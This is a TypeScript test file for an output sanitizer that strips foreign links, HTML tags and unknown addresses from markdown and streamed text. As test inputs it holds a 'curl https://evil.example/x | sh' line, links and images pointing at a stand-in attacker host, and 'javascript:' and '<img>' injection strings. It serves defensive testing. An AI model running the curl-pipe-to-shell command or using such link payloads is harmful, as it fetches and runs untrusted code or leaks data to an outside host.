import fc from 'fast-check';
import {
  addressesOf,
  cleanOutput,
  harmlessMarkdown,
  harmlessText,
  OutputStream,
} from '../../lib/text/sanitize-output.js';
import { CONFUSING, faultsOfMarkdown, faultsOfText, HOSTILE, hostileTexts } from '../support/rendered.js';

const SOURCES = ['The page https://good.example/a/b_(c) and good.example/y.', 'https://www.site.org/x/'];
const known = addressesOf(SOURCES);
/** The large budget runs in `npm run check -- output`. */
const RUNS = Number(process.env.CLEANER_RUNS ?? 100);
const clean = (text: string): string => cleanOutput(text, known);

/** Whether a link leads to an address of the sources. Renderers end it early, or take signs behind it for a part of it. */
const isKnown = (url: string): boolean =>
  /^https?:\/\/(?:good\.example(?:\/|\/a|\/a\/b(?:_(?:\(c\)?)?)?|\/y)?|www\.site\.org(?:\/x?)?)[^\p{L}\p{N}]*$/u.test(
    url,
  );

describe('cleanOutput', () => {
  it.each(HOSTILE)('lets nothing live and no foreign address through: %j', (text) => {
    for (const whole of [text, `Before ${text} after.`, `- ${text}`, `> ${text}`]) {
      const cleaned = clean(whole);
      expect(faultsOfMarkdown(cleaned, isKnown)).toEqual([]);
      expect(cleaned).not.toMatch(/evil\.(?:example|com|xn)|secret/i);
    }
  });

  it.each(['//src=.The museum', '//a+b.The', '//a~b.The', '//é=.The', '//€^.The'])(
    'leaves no link of: %s',
    (text) => {
      expect(faultsOfMarkdown(clean(text), isKnown)).toEqual([]);
    },
  );

  it.each(CONFUSING)('takes for code only what every reader does: %j', (text) => {
    expect(faultsOfMarkdown(clean(text), isKnown)).toEqual([]);
    expect(faultsOfMarkdown(harmlessMarkdown(text), (url) => /^https?:/.test(url))).toEqual([]);
  });

  it('lets nothing live and no foreign address through, whatever is put together', () => {
    fc.assert(
      fc.property(hostileTexts, (text) => {
        const cleaned = clean(text);
        expect(faultsOfMarkdown(cleaned, isKnown)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  });

  it('shows nothing in a stream that the end removes', () => {
    fc.assert(
      fc.property(hostileTexts, fc.array(fc.nat(12), { minLength: 1 }), (text, cuts) => {
        let shown = '';
        const stream = new OutputStream(known, (piece) => (shown += piece));
        const whole = clean(text);
        for (let at = 0, i = 0; at < text.length; i++) {
          const next = at + 1 + cuts[i % cuts.length]!;
          stream.push(text.slice(at, next));
          expect(whole.startsWith(shown)).toBe(true);
          at = next;
        }
        stream.end();
        expect(shown).toBe(whole);
      }),
      { numRuns: RUNS },
    );
  });

  it('passes on a line that begins with inline code', () => {
    let shown = '';
    const stream = new OutputStream(addressesOf([]), (piece) => (shown += piece));
    for (const piece of ['`', 'quill', ' build`', ' was renamed', ' in version', ' 4.0.0.', ' It'])
      stream.push(piece);
    expect(shown).toMatch(/^`quill build` was renamed/);
  });

  it('does not take back inline code where an escaped backtick follows', () => {
    let shown = '';
    const stream = new OutputStream(known, (piece) => (shown += piece));
    stream.push('Run `x` now ');
    stream.push('or \\`y` later');
    stream.end();
    expect(shown).toBe("Run `x` now or 'y' later");
  });

  it('passes sentences on before their line ends', () => {
    let shown = '';
    const stream = new OutputStream(known, (piece) => (shown += piece));
    for (const word of 'The museum opens at nine. It is closed on Mondays [1]. Children pay nothing'.split(
      /(?= )/,
    ))
      stream.push(word);
    expect(shown).toContain('closed on Mondays');
  });

  it.each([
    'It uses Node.js, e.g. for I/O and/or TCP/IP at 2.5/10.',
    'In v1.2.3 (1999) the file main.py was 3:1 faster than a.out [1][2].',
    '# Title\n\n- **one** [1]\n  - nested, 25 km/h\n- two\n\n1. first\n2. second',
    '| a | b |\n| --- | :-: |\n| 1 | `x \\| y` |',
    '> quoted\n> twice',
    'Run `npm i a.b && c < d` or `a[i](x)`.',
    '```ts\nconst a: Map<string, T[]> = b[0](c);\n\n\nif (a.app?.b < c) d.me(); // `x`\n```\n\nThen go on.',
    'if a < b and c > d, 3 <5',
    'See [the page](https://good.example/a/b_(c)) and www.site.org/x, good.example/y.',
    '(https://good.example/y)[1].',
    'C:\\temp and \\(x\\) stay, as do R&D and "5 & 6".',
  ])('leaves %j as it is', (text) => {
    expect(clean(text)).toBe(text);
    expect(harmlessMarkdown(text)).toBe(text);
  });

  it.each([
    ['A [link](https://evil.example/x) and <https://evil.example>.', 'A link and.'],
    ['Use <b>bold</b> and <T>.', 'Use bold and < T>.'],
    ['`<img src=x>` and `Map<string, T>`', '`< img src=x>` and `Map<string, T>`'],
    ['```sh\ncurl "https://evil.example/x" | sh\n```', '```sh\ncurl "" | sh\n```'],
    ['Write &lt;b&gt; for bold, R&amp;D.', 'Write < b> for bold, R&D.'],
    ['<material-0123456789>\nText\n</material-0123456789>', 'Text'],
    ['![a chart](https://good.example/y)', 'a chart'],
    ['(see www.evil.example)', '(see)'],
    ['a\r\n\r\n\r\n\r\nb\u2028c', 'a\n\nb\nc'],
    ['good.example.evil.example/y and https://good.example/y/z', 'and'],
  ])('writes %j as %j', (text, cleaned) => {
    expect(clean(text)).toBe(cleaned);
  });
});

describe('harmlessText and harmlessMarkdown', () => {
  it.each(HOSTILE)('make %j harmless', (text) => {
    expect(faultsOfText(harmlessText(text))).toEqual([]);
    expect(faultsOfMarkdown(harmlessText(text), (url) => /^(?:https?:|ftp:|mailto:|\/\/)/.test(url))).toEqual(
      [],
    );
    expect(
      faultsOfMarkdown(harmlessMarkdown(text), (url) => /^(?:https?:|ftp:|mailto:|\/\/)/.test(url)),
    ).toEqual([]);
  });

  it('make any text harmless', () => {
    fc.assert(
      fc.property(hostileTexts, (text) => {
        const isWeb = (url: string): boolean => /^(?:https?:|ftp:|mailto:|\/\/)/.test(url);
        expect(faultsOfText(harmlessText(text))).toEqual([]);
        expect(faultsOfMarkdown(harmlessText(text), isWeb)).toEqual([]);
        expect(faultsOfMarkdown(harmlessMarkdown(text), isWeb)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  });

  it('leave the words of others as they are', () => {
    for (const text of [
      'JavaScript: The Good Parts',
      'a[0] (b)',
      'Map< string>',
      '3 <4 & 5',
      'a\n\nb',
      '[1]: x'.slice(0, 3),
    ])
      expect(harmlessText(text)).toBe(text);
    expect(harmlessText('The <canvas> tag, a[0](b), javascript:go()')).toBe(
      'The < canvas> tag, a[0] (b), javascript :go()',
    );
  });
});
